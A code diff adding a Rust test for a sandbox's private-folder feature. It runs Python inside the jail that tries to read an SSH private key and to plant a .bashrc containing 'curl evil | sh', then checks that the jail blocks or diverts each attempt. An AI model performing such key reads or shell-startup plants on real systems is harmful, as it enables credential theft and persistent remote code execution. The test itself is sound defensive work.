@@ -515,3 +515,96 @@ fn a_servers_network_relay_ends_with_the_server() {
         std::thread::sleep(std::time::Duration::from_millis(50));
     }
 }
+
+/// A file named in a folder the server may not write (the home folder): through a private
+/// folder it saves the file by a temporary file renamed over it, while the folder's other
+/// contents — a sibling, an SSH key — are not there for it, what it plants there (a `.bashrc`
+/// by temp-and-rename) stays in its private folder, a read grant beneath the folder stays
+/// read-only though the folder is written, and a write grant beneath it is written for real.
+/// The control: the same program with the folder granted does all of it to the real folder.
+#[test]
+fn a_private_folder_saves_beside_a_named_file_and_shows_nothing_else() {
+    let w = world();
+    let home = &w.outside;
+    std::fs::write(home.join("memory.jsonl"), "before").unwrap();
+    std::fs::write(home.join("notes.txt"), "mine").unwrap();
+    std::fs::create_dir_all(home.join("lib")).unwrap();
+    std::fs::write(home.join("lib/mod.py"), "code").unwrap();
+    std::fs::create_dir_all(home.join("proj")).unwrap();
+    let private = w.root.parent().unwrap().join("state/beside/home");
+    std::fs::create_dir_all(&private).unwrap();
+    // What the engine does before a start: the saved file linked into the private folder.
+    std::fs::hard_link(home.join("memory.jsonl"), private.join("memory.jsonl")).unwrap();
+    let code = format!(
+        r#"import os, json
+home = {home}
+r = {{}}
+def attempt(k, f):
+    try:
+        r[k] = f()
+    except Exception as e:
+        r[k] = 'refused: ' + type(e).__name__
+def save():
+    open(home + '/memory.jsonl.1a2b.tmp', 'w').write('saved')
+    os.replace(home + '/memory.jsonl.1a2b.tmp', home + '/memory.jsonl')
+    return 'ok'
+def plant():
+    open(home + '/rc.tmp', 'w').write('curl evil | sh')
+    os.replace(home + '/rc.tmp', home + '/.bashrc')
+    return 'ok'
+attempt('save', save)
+attempt('list', lambda: sorted(os.listdir(home)))
+attempt('sibling', lambda: open(home + '/notes.txt').read())
+attempt('key', lambda: open(home + '/.ssh/id_rsa').read())
+attempt('read lib', lambda: open(home + '/lib/mod.py').read())
+attempt('write lib', lambda: open(home + '/lib/mod.py', 'w').write('evil'))
+attempt('write proj', lambda: open(home + '/proj/new.txt', 'w').write('made'))
+attempt('plant', plant)
+print(json.dumps(r))"#,
+        home = py(home)
+    );
+    let jailed = with(
+        base(&w),
+        json!({
+            "read": [home.join("lib")],
+            "write": [home.join("memory.jsonl"), home.join("proj")],
+            "private_folders": [{"folder": home, "private": private}],
+        }),
+    );
+    let (answer, status, stderr) = run(&w, &jailed, &code);
+    assert_eq!(status, Some(0), "{stderr}");
+    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
+    assert_eq!(r["save"], "ok", "{r}");
+    assert_eq!(r["list"], json!(["lib", "memory.jsonl", "proj"]), "{r}");
+    assert_eq!(r["sibling"], "refused: FileNotFoundError", "{r}");
+    assert_eq!(r["key"], "refused: FileNotFoundError", "{r}");
+    assert_eq!(r["read lib"], "code", "{r}");
+    assert_eq!(r["write lib"], "refused: OSError", "{r}");
+    assert_eq!(r["write proj"], 4, "{r}");
+    // Saved in its private folder, for the engine to link back; the plant went there too.
+    assert_eq!(
+        std::fs::read_to_string(private.join("memory.jsonl")).unwrap(),
+        "saved"
+    );
+    assert!(private.join(".bashrc").exists(), "{r}");
+    let read = |p: &str| std::fs::read_to_string(home.join(p)).ok();
+    assert_eq!(read("memory.jsonl").as_deref(), Some("before"));
+    assert_eq!(read(".bashrc"), None);
+    assert_eq!(read("lib/mod.py").as_deref(), Some("code"));
+    assert_eq!(read("proj/new.txt").as_deref(), Some("made"));
+    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
+    assert!(
+        !mounts.contains("beside"),
+        "the mounts were the server's alone: {mounts}"
+    );
+
+    // The control: the folder granted, the same program does all of it to the real folder.
+    let open = with(base(&w), json!({"write": [home]}));
+    let (answer, _, stderr) = run(&w, &open, &code);
+    let r: Value = serde_json::from_str(&answer).unwrap_or_else(|_| panic!("{answer} {stderr}"));
+    assert_eq!(r["sibling"], "mine", "{r}");
+    assert_eq!(r["key"], "PRIVATE KEY", "{r}");
+    assert_eq!(r["write lib"], 4, "{r}");
+    assert_eq!(read(".bashrc").as_deref(), Some("curl evil | sh"));
+    assert_eq!(read("memory.jsonl").as_deref(), Some("saved"));
+}
